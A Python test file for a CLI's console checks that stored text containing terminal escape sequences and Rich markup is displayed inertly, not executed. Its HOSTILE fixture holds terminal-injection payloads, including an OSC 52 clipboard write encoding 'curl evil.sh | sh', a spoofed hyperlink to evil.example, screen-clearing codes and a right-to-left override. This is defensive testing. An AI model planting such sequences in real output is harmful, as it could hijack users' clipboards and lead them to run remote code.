"""The CLI's consoles: stored text cannot drive the terminal or be read as rich markup."""

from __future__ import annotations

import io
import re

from rich.table import Table

from cems_cli.cli.common import TerminalConsole, shown

HOSTILE = ("copy \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 then "
           "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x1b[1;1H\x9b31m\x9d0;title\x9c "
           "[link=https://evil.example]docs[/link] [bold red]x[/] "
           ":warning: \u202eevil\u202c")
# What a terminal console may write itself: SGR colours/attributes, and nothing else.
_SGR = re.compile(r"\x1b\[[0-9;]*m")


def _render(renderable: object, *, terminal: bool) -> str:
    out = io.StringIO()
    colours = "truecolor" if terminal else None
    console = TerminalConsole(file=out, force_terminal=terminal, color_system=colours, width=400)
    console.print(renderable)
    return out.getvalue()


def test_escape_sequences_and_markup_in_a_table_cell_are_shown_not_run():
    for terminal in (True, False):
        table = Table(title=shown("Search: " + HOSTILE))
        table.add_column("memory", style="cyan")
        table.add_row(shown(HOSTILE))
        text = _SGR.sub("", _render(table, terminal=terminal))
        assert not any(ord(c) < 0x20 and c != "\n" or 0x7F <= ord(c) < 0xA0 for c in text), repr(text)
        assert "\u202e" not in text
        assert "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=" in text  # visible, inert
        assert "[link=https://evil.example]docs[/link]" in text and "[bold red]x[/]" in text
        assert ":warning:" in text  # no emoji substitution in stored text


def test_even_a_plain_print_cannot_write_an_escape_sequence():
    """The console itself filters: a message that quotes stored text (an error naming a value, a status
    line) is safe without each call site remembering to."""
    raw = _render_plain_markup_false(HOSTILE)
    assert "\x1b" not in raw and "\x9b" not in raw and "␛[2J" in raw


def _render_plain_markup_false(text: str) -> str:
    out = io.StringIO()
    TerminalConsole(file=out, force_terminal=True, color_system="truecolor").print(text, markup=False)
    return out.getvalue()


def test_the_console_still_styles_what_the_cli_itself_marks_up():
    raw = _render("[bold]#1[/bold]", terminal=True)
    assert raw.startswith("\x1b[1m#1") and "[bold]" not in raw
